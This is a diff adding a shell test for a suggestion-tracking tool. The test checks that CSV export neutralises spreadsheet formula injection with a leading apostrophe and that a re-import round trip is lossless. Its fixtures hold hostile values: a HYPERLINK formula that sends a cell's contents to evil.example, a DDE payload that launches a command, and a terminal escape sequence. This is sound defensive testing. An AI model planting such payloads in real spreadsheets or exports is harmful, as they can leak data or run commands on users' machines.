@@ -77,3 +77,31 @@ load helper
 	2023-01-05  2023-0001  registered  source: other  \x1b]0;owned\x07
 	EOF2
 }
+
+@test "r24: CSV cells that a spreadsheet would run get a leading apostrophe, and import reads them back unchanged" {
+	town
+	j add --title '=HYPERLINK("http://evil.example/?"&B2,"详情")' \
+	    --category "=cmd|'/C calc'!A0" --submitter '@李四' \
+	    --phone '+86 139 1111 2222' --content "'=已有撇号" \
+	    --date 2023-01-05 >/dev/null
+	j add --title '-2' --category "'a" --date 2023-01-06 >/dev/null
+	run j export suggestions --with-personal-data
+	[ "$status" -eq 0 ]
+	[ "${lines[1]}" = $'2023-0001,2023-01-05,,其他,"\'=HYPERLINK(""http://evil.example/?""&B2,""详情"")",\'\'=已有撇号,\'=cmd|\'/C calc\'!A0,\'@李四,\'+86 139 1111 2222,,,,,,,,,,,\r' ] || { echo "${lines[1]}" | cat -A; return 1; }
+	[ "${lines[2]}" = $'2023-0002,2023-01-06,,其他,-2,,\'a,,,,,,,,,,,,,\r' ] || { echo "${lines[2]}" | cat -A; return 1; }
+	printf '%s\n' "$output" >all.csv
+	run j list --format csv
+	[ "${lines[1]}" = $'2023-0001,registered,0,2023-01-05,,,,\'@**,"\'=HYPERLINK(""http://evil.example/?""&B2,""详情"")"\r' ] || { echo "${lines[1]}" | cat -A; return 1; }
+	# The round trip: a new database gets every value back unchanged.
+	sfield 2023-0001 'title,.category,.submitter,.phone,.content' >want
+	sfield 2023-0002 'title,.category' >>want
+	JIANYI_DB=$TMP/new.db j init >/dev/null
+	JIANYI_DB=$TMP/new.db j import suggestions all.csv
+	JIANYI_DB=$TMP/new.db sfield 2023-0001 'title,.category,.submitter,.phone,.content' >got
+	JIANYI_DB=$TMP/new.db sfield 2023-0002 'title,.category' >>got
+	diff want got
+	[ "$(sed -n 1p got)" = '=HYPERLINK("http://evil.example/?"&B2,"详情")' ]
+	# Exporting the new database gives the same file, byte for byte.
+	JIANYI_DB=$TMP/new.db j export suggestions --with-personal-data >again.csv
+	cmp all.csv again.csv
+}
